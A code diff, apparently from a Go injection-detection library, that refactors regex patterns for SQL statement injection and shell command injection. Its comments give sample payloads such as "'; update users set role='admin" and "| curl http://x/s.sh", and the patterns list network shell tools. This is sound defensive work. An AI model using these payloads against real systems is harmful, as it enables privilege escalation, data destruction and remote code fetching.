@@ -34,7 +34,11 @@ var (
 		pat(`['"]\s*\|\|\s*(?:\(\s*select\b|[\w.]+\s*\(|['"])[^\n]{0,200}?\|\|\s*['"]`, "||"),
 		// ' insert into users(…) values(…, '; update t set c=: a statement
 		// after the quote.
-		pat(`['"]\s*\)*\s*;?\s*(?:insert\s+into\s+[\w.\x60"\[\]]+\s*\([^)]{0,200}\)\s*values\s*\(|update\s+[\w.]+\s+set\s+[\w.]+\s*=\s*['"\d(]|delete\s+from\s+[\w.]+\s+where\s+[\w.]+\s*=)`, "insert", "update", "delete"),
+		pat(`['"]\s*\)*\s*;?\s*(?:`+anyOf(
+			`insert\s+into\s+[\w.\x60"\[\]]+\s*\([^)]{0,200}\)\s*values\s*\(`, // ' insert into users(name, role) values('x', 'admin
+			`update\s+[\w.]+\s+set\s+[\w.]+\s*=\s*['"\d(]`,                    // '; update users set role='admin
+			`delete\s+from\s+[\w.]+\s+where\s+[\w.]+\s*=`,                     // '; delete from users where id=1
+		)+`)`, "insert", "update", "delete"),
 	}
 
 	// reCmdBreakText are a separator then code that runs: a PHP or shell
@@ -46,7 +50,10 @@ var (
 		// ;phpinfo();
 		pat(`(?:^|[;|&])\s*(?:phpinfo|phpversion)\s*\(\s*\)`, "phpinfo", "phpversion"),
 		// & ping -i 30 127.0.0.1 &, | curl http://x/s.sh, ; nslookup x.y
-		pat(`(?:^|[;|&])\s*(?:ping|nslookup|curl|wget|nc|ncat|telnet|traceroute)\s+(?:-{1,2}[a-z]+(?:\s+\d+)?\s+)*(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|https?://)`, "ping", "nslookup", "curl", "wget", "nc", "telnet", "traceroute"),
+		pat(`(?:^|[;|&])\s*(?:ping|nslookup|curl|wget|nc|ncat|telnet|traceroute)\s+`+ // a separator, a network command,
+			`(?:-{1,2}[a-z]+(?:\s+\d+)?\s+)*`+ // its flags: -i 30, --silent,
+			`(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|https?://)`, // then an address: 127.0.0.1, http://x/s.sh
+			"ping", "nslookup", "curl", "wget", "nc", "telnet", "traceroute"),
 	}
 )
 
